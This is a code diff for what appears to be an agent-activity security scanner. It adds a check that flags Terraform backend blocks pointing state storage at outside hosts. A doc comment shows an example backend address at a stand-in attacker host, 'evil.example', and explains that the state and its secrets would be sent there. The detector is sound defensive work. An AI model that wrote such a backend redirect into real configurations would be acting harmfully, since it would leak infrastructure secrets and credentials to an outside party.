@@ -35,9 +35,35 @@ function ask(path: string, writer: string, key: string, value: string, host: str
   };
 }
 
+/** A Terraform backend block and the address keys that say where its state goes (`backend "http" { address = "…" }`). */
+const TF_BACKEND = /\bbackend\s+"(\w+)"\s*\{([^}]{0,2000})\}/g;
+const TF_ADDRESS = /\b(address|lock_address|unlock_address|endpoint|endpoints|hostname|url|conn_str|path)\s*=\s*(?:\{[^}]*?)?"([^"]+)"/g;
+
+/** `backend "http" { address = "https://evil.example/state" }`: every later init, plan and apply sends the state, and the secrets it holds, there. */
+function terraformBackend(path: string, text: string, writer: string): Finding[] {
+  if (!/\.tf(\.json)?$/i.test(path)) return [];
+  for (const block of text.slice(0, 64 * 1024).matchAll(TF_BACKEND)) {
+    for (const m of block[2]!.matchAll(TF_ADDRESS)) {
+      const host = outsideHost(m[2]!);
+      if (!host || (block[1] === 'local' && m[1] === 'path')) continue;
+      const shown = path.split('/').slice(-2).join('/');
+      return [{
+        rule: 'credentialRoutes.endpoint-override',
+        risk: 'credential-use',
+        severity: 'ask',
+        reason: `${writer} points the Terraform ${block[1]} backend in ${shown} at ${host} (${m[1]}): every later init, plan and apply sends the state, with the secrets it holds, and the backend credentials there.`,
+        targets: [{ kind: 'url', name: host, remote: true, environment: 'production', environmentReason: 'a host named only in a file the agent wrote — treated as production' }],
+      }];
+    }
+  }
+  return [];
+}
+
 /** Findings for `text` (undefined: not known) written into `path` by `writer`. */
 export function endpointFileWrites(path: string, text: string | undefined, writer: string): Finding[] {
   if (text === undefined) return [];
+  const backend = terraformBackend(path, text, writer);
+  if (backend.length > 0) return backend;
   const env = (ENV_FILE.test(path) && !TEMPLATE.test(path)) || ENV_SECTION.test(path);
   const agent = !env && AGENT_CONFIG.test(path);
   if (!env && !agent) return [];
